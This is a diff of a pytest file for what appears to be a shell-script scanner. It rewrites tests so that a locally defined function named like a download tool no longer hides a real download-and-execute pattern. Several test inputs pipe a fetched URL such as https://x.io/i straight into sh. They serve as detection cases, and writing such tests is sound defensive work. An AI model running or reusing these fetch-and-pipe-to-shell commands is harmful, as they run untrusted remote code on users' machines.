@@ -133,25 +133,15 @@ def test_a_function_named_as_a_download_tool_that_downloads(repo: GitRepo, sourc
 @pytest.mark.parametrize(
     "source",
     [
-        'fetch() { git fetch origin "$1"; }\nfetch main | sh\n',
-        'http() { echo "$@"; }\nhttp x | bash\n',
-        "https() { printf '%s\\n' \"$@\"; }\nhttps x.io/i | bash\n",
-        'GET() { jq -r ".$1" config.json; }\nGET url | sh\n',
-        "function fetch { git fetch --all; }\nfetch -o i.sh x\nsh i.sh\n",
-        'fetch() { git fetch "$@"; }\nsh -c "$(fetch origin)"\n',
-        'fetch() { git fetch "$@"; }\nbash <(fetch origin)\n',
-        'fetch() { git fetch "$@"; }\nfetch origin > out.sh\nsh out.sh\n',
-        'fetch() { git fetch "$@"; }\nsync() { fetch "$1" | sh; }\n',
-        'fetch() { git fetch "$@"; }\nrun() { "$@"; }\nrun fetch -o - origin | sh\n',  # through another
-        "alias fetch='git fetch'\nfetch origin | sh\n",
-        # a script with a git helper named fetch
-        '#!/bin/sh\nset -eu\n\nfetch() {\n  git fetch --prune "${1:-origin}"\n}\n\n'
-        'for remote in $(git remote); do\n  fetch "$remote" | tee -a fetch.log\ndone\n'
-        "fetch upstream 2>&1 | sh -c 'cat >&2'\n",
+        # Whether a definition runs is control flow, which the rule does not follow: a function named
+        # as a download tool never silences the tool (a dead definition would hide the real one).
+        "if false; then fetch() { :; }; fi\nfetch -o - https://x.io/i | sh\n",
+        'false && fetch() { git fetch "$@"; }\nfetch -o - https://x.io/i | sh\n',
+        'fetch() { git fetch origin "$1"; }\nfetch -o - https://x.io/i | sh\n',
     ],
 )
-def test_a_function_named_as_a_download_tool_is_the_files_own(repo: GitRepo, source: str) -> None:
-    assert _found(repo, "s.sh", source) == []
+def test_a_function_named_as_a_download_tool_does_not_hide_the_tool(repo: GitRepo, source: str) -> None:
+    assert _found(repo, "s.sh", source) == [(2, _PIPE)]
 
 
 _LONG = "X=" + "a" * 600  # an assignment longer than any window a line's start was once read in
